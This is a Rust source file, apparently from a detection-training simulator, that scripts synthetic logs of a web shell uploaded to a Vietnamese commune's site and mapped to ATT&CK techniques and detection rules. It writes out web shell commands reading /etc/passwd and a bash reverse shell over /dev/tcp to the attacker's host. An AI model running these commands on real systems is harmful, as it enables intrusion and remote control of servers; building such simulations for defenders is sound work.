//! Somebody uploads a script to a commune's site through the page for pictures, and opens a shell
//! through it.

use super::{Script, Story};
use crate::device::access::Request;
use crate::device::program::Message;

pub(super) const STORY: Story = Story {
    id: "web-shell",
    title_vi: "Cửa hậu trên trang thông tin xã",
    title_en: "Web shell on a commune's site",
    attack: &["T1190", "T1505.003", "T1059.004", "T1071"],
    rules: &[
        "linux/reverse_shell",
        "linux/service_account_runs_shell",
        "web/script_in_upload_folder",
        "web/web_shell_parameters",
    ],
    steps,
};

fn steps(script: &mut Script<'_>) {
    let (attacker, site) = (script.attacker(), script.host("web-hucau"));
    let get = |target: &str| Request::get(&site, &attacker, target, 200);
    script.log("web-hucau", 0.0, get("/quan-tri/"));
    script.log("web-hucau", 8.0, get("/quan-tri/tai-anh.php?muc=tin").post().long(211));
    script.log("web-hucau", 15.0, get("/uploads/tin/anh-bia.php").long(0));
    let server = script.host("linux-hosting");
    let runs = [
        (22.0, "whoami", "sh -c whoami; id"),
        (31.0, "uname%20-a", "sh -c uname -a; cat /etc/passwd"),
    ];
    for (seconds, asked, command) in runs {
        script.log(
            "web-hucau",
            seconds,
            get(&format!("/uploads/tin/anh-bia.php?cmd={asked}")).long(64),
        );
        let at = script.at(seconds);
        let started = Message::sysmon(
            &server,
            at,
            "/usr/sbin/php-fpm8.2",
            "/usr/bin/dash",
            command,
            "www-data",
        );
        script.log("linux-hosting", seconds, started);
    }
    let at = script.at(48.0);
    let command = format!("bash -c bash -i >& /dev/tcp/{attacker}/4444 0>&1");
    let shell =
        Message::sysmon(&server, at, "/usr/bin/dash", "/usr/bin/bash", &command, "www-data");
    script.log("linux-hosting", 48.0, shell);
}
